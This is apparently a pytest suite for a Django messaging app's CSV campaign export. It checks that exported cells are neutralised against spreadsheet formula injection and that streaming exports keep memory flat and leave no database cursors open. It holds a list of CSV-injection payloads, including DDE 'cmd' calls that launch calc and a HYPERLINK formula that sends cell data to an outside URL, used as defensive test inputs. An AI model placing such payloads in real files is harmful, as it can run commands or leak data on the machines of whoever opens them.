"""A campaign as a file: nothing a spreadsheet would run, and flat memory however long it is."""

from __future__ import annotations

import csv
import gc
import io
import sys
import threading
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from functools import partial
from itertools import islice
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection, connections
from django.test import Client
from django.urls import reverse

from lineportal.providers.base import Outcome, SendResult
from lineportal.sending import campaigns, exports, outbox, rows
from lineportal.sending.models import Campaign
from lineportal.sending.outbox import Sent
from tests import factories
from tests.sending import placed

# With what a cell begins that a spreadsheet may run (OWASP, "CSV Injection").
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = [f"{first}cmd|' /C calc'!A0" for first in DANGEROUS] + [
    '=HYPERLINK("https://example.com?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
SMALL, LARGE = 5_000, 20_000


def table(campaign: Campaign, at: datetime) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(exports.lines(campaign, at=at)), newline="")))


def runs(cell: str) -> bool:
    return cell.startswith(DANGEROUS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_people_wrote_into_an_item_is_no_formula(
    attack: str, sender: User, at: datetime
) -> None:
    account = placed.account(people=1)
    template = factories.approved(account)
    lines = rows.from_json(
        [
            {"phone": factories.phone(0), "item": attack},
            {"phone": factories.phone(0), "item": attack},  # a repeat is kept, and says so
        ],
        account=account,
    )
    campaign = campaigns.create(
        account, template=template, name="=1+1", by=sender, at=at, audience={"rows": len(lines)}
    )
    rows.add(campaign, lines, at=at)
    campaign = campaigns.start(campaign, by=sender, at=at)

    exported = table(campaign, at)

    assert [row["item"] for row in exported] == [f"'{attack}", f"'{attack} (row 2)"]
    assert not [cell for row in exported for cell in row.values() if runs(cell)]
    assert all(set(row) == set(exports.COLUMNS) for row in exported)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_provider_answered_is_no_formula(attack: str, db: None, at: datetime) -> None:
    campaign = placed.campaign("lon", people=1, at=at)
    [held] = placed.hold_all(campaign, at=at)
    outbox.begin(held.token, [(held.message, "")], at=at)
    answer = SendResult(Outcome.REFUSED, code=attack[:100], detail=attack, request_id=attack[:100])
    outbox.record([Sent(held.message, answer)], at=at)

    [row] = table(campaign, at)

    assert row["detail"] == f"'{attack}"
    assert not [cell for cell in row.values() if runs(cell)]


def test_every_status_is_a_row_of_its_own_without_a_formula(db: None, at: datetime) -> None:
    cases = placed.one_in_each_status("lon", at=at)
    campaign = placed.row(cases["queued"]).campaign
    assert campaign is not None

    exported = table(campaign, at)

    assert [(row["message"], row["status"]) for row in exported] == [
        (str(cases[status].pk), status) for status in placed.STATUSES
    ]
    assert not [cell for row in exported for cell in row.values() if runs(cell)]
    assert {row["phone"][:3] for row in exported} == {"'+6"}  # masked, and as text
    assert not {factories.phone(n) for n in range(10)} & {
        cell for row in exported for cell in row.values()
    }


# --- memory


def many(count: int, at: datetime, **details: Any) -> Campaign:
    """Return a campaign of so many messages, written by three statements."""
    campaign = placed.campaign("lon", people=1, at=at, of=placed.account(people=1, **details))
    placed.more_people(campaign.account, count - 1)
    assert placed.copies(campaign) == count - 1
    return campaign


def peak(read: Callable[[], Iterable[Any]]) -> tuple[int, int]:
    """Return how many pieces came, and the most memory blocks that Python held meanwhile.

    Blocks are counted, not traced: tracemalloc's hooks once stopped psycopg for ever.
    """
    gc.collect()
    before = most = sys.getallocatedblocks()
    count = 0
    for count, _piece in enumerate(read(), start=1):
        if count % 50 == 0:
            most = max(most, sys.getallocatedblocks())
    return count, most - before


def at_the_console(client: Client, campaign: Campaign) -> Iterator[bytes]:
    response: Any = client.get(reverse("admin:sending_campaign_export", args=[campaign.pk]))
    assert response.status_code == 200
    assert response.streaming
    return iter(response.streaming_content)


@pytest.fixture
def two_sizes(transactional_db: None, at: datetime) -> tuple[Campaign, Campaign]:
    return (
        many(SMALL, at, slug="small", channel="1650000011"),
        many(LARGE, at, slug="large", channel="1650000012"),
    )


def test_memory_stays_flat_however_many_messages_there_are(
    two_sizes: tuple[Campaign, Campaign], sender: User, client: Client, at: datetime
) -> None:
    client.force_login(sender)
    doors: dict[str, Callable[[Campaign], Iterable[Any]]] = {
        "lines": lambda campaign: exports.lines(campaign, at=at),
        "console": lambda campaign: at_the_console(client, campaign),
    }

    for name, read in doors.items():
        assert len(list(islice(read(two_sizes[0]), 9))) == 9  # what is loaded once is loaded now
        (few, at_few), (much, at_much) = [peak(partial(read, each)) for each in two_sizes]
        assert (few, much) == (SMALL + 1, LARGE + 1), name  # a header each
        assert at_much < 1.2 * at_few, f"{name}: {at_few} blocks became {at_much}"

    # The same measure sees it at once where rows are held.
    _much, held = peak(lambda: list(two_sizes[1].messages.values_list()))
    assert held > 2 * at_much


def server_cursors() -> list[tuple[str, bool]]:
    """Return name and "outlives its transaction" of this connection's server-side cursors."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT name, is_holdable FROM pg_cursors")
        return list(cursor.fetchall())


def what_others_see(pid: int) -> str:
    """Return the state of a connection, as another connection sees it."""
    found: list[str] = []

    def look() -> None:
        try:
            with connection.cursor() as cursor:
                cursor.execute("SELECT state FROM pg_stat_activity WHERE pid = %s", [pid])
                found.extend(state for (state,) in cursor.fetchall())
        finally:
            connections.close_all()

    thread = threading.Thread(target=look)
    thread.start()
    thread.join(30)
    [state] = found
    return state


@pytest.fixture
def page_by_page(transactional_db: None, at: datetime) -> Campaign:
    """A campaign of more messages than are fetched at once."""
    return many(5_000, at)


def test_the_console_reads_from_a_cursor_of_the_server_outside_any_transaction(
    page_by_page: Campaign, sender: User, client: Client
) -> None:
    client.force_login(sender)

    content = at_the_console(client, page_by_page)
    first = [next(content) for _line in range(100)]

    assert b"message,recipient" in first[0]
    assert [held for _name, held in server_cursors()] == [True]
    assert not connection.in_atomic_block
    with connection.cursor() as cursor:
        cursor.execute("SELECT pg_backend_pid()")
        [(pid,)] = cursor.fetchall()
    assert what_others_see(pid) == "idle"  # not "idle in transaction", however slow the reader
    assert sum(1 for _line in content) == 5_000 + 1 - 100
    assert server_cursors() == []


def test_a_reader_who_leaves_half_way_leaves_no_cursor_behind(
    page_by_page: Campaign, sender: User, client: Client
) -> None:
    client.force_login(sender)
    response: Any = client.get(reverse("admin:sending_campaign_export", args=[page_by_page.pk]))
    content = iter(response.streaming_content)
    next(content), next(content)
    assert len(server_cursors()) == 1

    response.close()

    assert server_cursors() == []


def test_the_settings_neither_forbid_such_cursors_nor_wrap_requests_in_transactions() -> None:
    assert not connection.settings_dict.get("DISABLE_SERVER_SIDE_CURSORS", False)
    assert not connection.settings_dict["ATOMIC_REQUESTS"]
    assert connection.settings_dict["AUTOCOMMIT"]
